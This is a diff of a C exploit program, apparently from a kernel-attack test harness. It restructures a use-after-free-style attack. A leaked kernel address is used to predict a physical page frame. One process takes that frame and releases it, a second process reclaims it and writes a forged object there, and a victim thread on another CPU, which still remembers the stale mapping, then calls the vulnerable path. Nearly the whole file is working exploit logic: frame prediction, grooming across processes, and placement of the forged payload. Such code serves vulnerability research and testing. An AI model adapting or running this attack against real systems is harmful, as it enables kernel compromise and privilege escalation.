@@ -1,8 +1,10 @@
 /*
- * A frame that one process gave back is allocated by another, an accomplice, which puts a forged
- * object there; a processor of the first still remembers the frame as the kernel's.
+ * A frame goes from the kernel to one process, which gives it back, and on to another, which puts a
+ * forged object there. A processor that runs neither of them remembers it from the beginning.
  */
+#include <sched.h>
 #include <signal.h>
+#include <stdlib.h>
 #include <sys/mman.h>
 #include <sys/wait.h>
 #include <time.h>
@@ -10,94 +12,128 @@
 
 #include "attack.h"
 
-enum { CPU_OF_ALLOCATOR, CPU_OF_VICTIM, NR_CPUS };
-enum { STAGE_WARM = 1, STAGE_WARMED, STAGE_FORGED, STAGE_NOT_FOUND, STAGE_CALLED };
-enum { FRAME_IN_RUN = 5 };
+enum { CPU_OF_ACCOMPLICES, CPU_OF_VICTIM, NR_CPUS };
+enum { STAGE_PREDICTED = 1, STAGE_WARMED, STAGE_GIVEN_BACK, STAGE_FORGED, STAGE_CALLED };
+enum { NR_TRIES = 64 };
 
-/* What the two processes share. */
+/* What the three processes share. */
 struct shared {
 	attack_stage stage;
-	uint64_t pfn, synonym;
+	struct attack_frame frame;
+	bool is_lost;
 };
 
 static struct shared *shared;
+static pid_t attacker;
 
-/* Nobody but the parent needs it. */
-static _Noreturn void linger(pid_t parent)
+/* Nobody needs an accomplice any more once the attacker is gone. */
+static void accomplice_await(unsigned int stage)
+{
+	while (shared->stage < stage) {
+		if (getppid() != attacker) {
+			_exit(0);
+		}
+		sched_yield();
+	}
+}
+
+static _Noreturn void linger(void)
 {
 	const struct timespec nap = { .tv_nsec = 10 * 1000 * 1000 };
 
-	while (getppid() == parent) {
+	while (getppid() == attacker) {
 		nanosleep(&nap, NULL);
 	}
 	_exit(0);
 }
 
-/* The forged object names the parent's process: that is what the leak is of. */
-static _Noreturn void accomplice(const struct bw_leak *leak, pid_t parent)
+/* Has the frame first, and gives it back. */
+static _Noreturn void first_owner(const struct bw_leak *leak)
 {
-	const struct timespec nap = { .tv_nsec = 1000 * 1000 };
-	void *page;
+	uintptr_t page;
 
-	while (shared->stage < STAGE_WARMED) {
-		if (getppid() != parent) {
-			_exit(0);
-		}
-		nanosleep(&nap, NULL);
+	attack_frame_predict(leak, &shared->frame);
+	attack_tell(&shared->stage, STAGE_PREDICTED);
+	accomplice_await(STAGE_WARMED);
+	page = (uintptr_t)attack_frame_take(&shared->frame);
+	if (page != 0) {
+		attack_say("one process has frame 0x%lx, and gives it back", shared->frame.pfn);
+		munmap((void *)(page & -(uintptr_t)BW_HUGE_PAGE_SIZE), BW_HUGE_PAGE_SIZE);
 	}
-	attack_pin(CPU_OF_ALLOCATOR);
-	page = attack_frame_hunt(shared->pfn);
+	attack_tell(&shared->stage, STAGE_GIVEN_BACK);
+	linger();
+}
+
+/* The forged object names the attacker's process: that is what the leak is of. */
+static _Noreturn void second_owner(const struct bw_leak *leak)
+{
+	void *page = NULL;
+
+	accomplice_await(STAGE_GIVEN_BACK);
+	for (int i = 0; i < NR_TRIES && page == NULL; i++) {
+		page = attack_frame_take(&shared->frame);
+	}
 	if (page != NULL) {
-		payload_object(page, shared->synonym, leak);
+		attack_say("another has it now, and forges an object there");
+		payload_object(page, shared->frame.synonym, leak);
 	}
-	attack_tell(&shared->stage, page != NULL ? STAGE_FORGED : STAGE_NOT_FOUND);
-	linger(parent);
+	shared->is_lost = page == NULL;
+	attack_tell(&shared->stage, STAGE_FORGED);
+	linger();
 }
 
 static void victim(void *unused)
 {
 	(void)unused;
-	attack_await(&shared->stage, STAGE_WARM, AWAIT_SPIN);
-	attack_warm(shared->synonym);
+	attack_await(&shared->stage, STAGE_PREDICTED, AWAIT_SPIN);
+	attack_warm(shared->frame.synonym);
 	attack_tell(&shared->stage, STAGE_WARMED);
 	attack_await(&shared->stage, STAGE_FORGED, AWAIT_SPIN);
-	if (shared->stage == STAGE_NOT_FOUND) {
+	if (shared->is_lost) {
 		attack_skip("the other process did not get the frame");
 	}
-	attack_check("vuln_call", bw_vuln_call(shared->synonym));
+	attack_check("vuln_call", bw_vuln_call(shared->frame.synonym));
 	attack_tell(&shared->stage, STAGE_CALLED);
+}
+
+static pid_t start(void (*body)(const struct bw_leak *leak), const struct bw_leak *leak)
+{
+	pid_t child = fork();
+
+	if (child == 0) {
+		body(leak);
+	}
+	if (child < 0) {
+		attack_skip("no process to be had");
+	}
+	return child;
 }
 
 int main(void)
 {
-	static struct attack_run run;
-	pid_t self = getpid();
 	struct bw_leak leak;
-	pid_t child;
+	pid_t first, second;
 
 	attack_leak(&leak);
 	attack_need_cpus(NR_CPUS);
-	attack_pin(CPU_OF_ALLOCATOR);
+	attack_pin(CPU_OF_ACCOMPLICES);
+	attacker = getpid();
 	shared = mmap(NULL, sizeof(*shared), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1,
 		      0);
 	if (shared == MAP_FAILED) {
 		attack_skip("no memory to share");
 	}
-	child = fork();
-	if (child == 0) {
-		accomplice(&leak, self);
-	}
+	first = start(first_owner, &leak);
+	second = start(second_owner, &leak);
 	attack_thread(CPU_OF_VICTIM, victim, NULL);
-	attack_run_take(&run);
-	shared->pfn = run.first_pfn + FRAME_IN_RUN;
-	shared->synonym = leak.direct_map_base + shared->pfn * BW_PAGE_SIZE;
-	attack_run_give_back(&run);
-	attack_say("frame 0x%lx was ours, and is given back", shared->pfn);
-	attack_tell(&shared->stage, STAGE_WARM);
-	attack_await(&shared->stage, STAGE_WARMED, AWAIT_SPIN);
-	attack_say("CPU %d has read it at 0x%lx", CPU_OF_VICTIM, shared->synonym);
+	/*
+	 * A page of this process that is unmapped or copied from here on would have the victim's
+	 * processor flush: so nothing is said, and nothing touched for the first time.
+	 */
 	attack_await(&shared->stage, STAGE_CALLED, AWAIT_YIELD);
-	kill(child, SIGKILL);
-	waitpid(child, NULL, 0);
+	kill(first, SIGKILL);
+	kill(second, SIGKILL);
+	waitpid(first, NULL, 0);
+	waitpid(second, NULL, 0);
 	return attack_finish();
 }
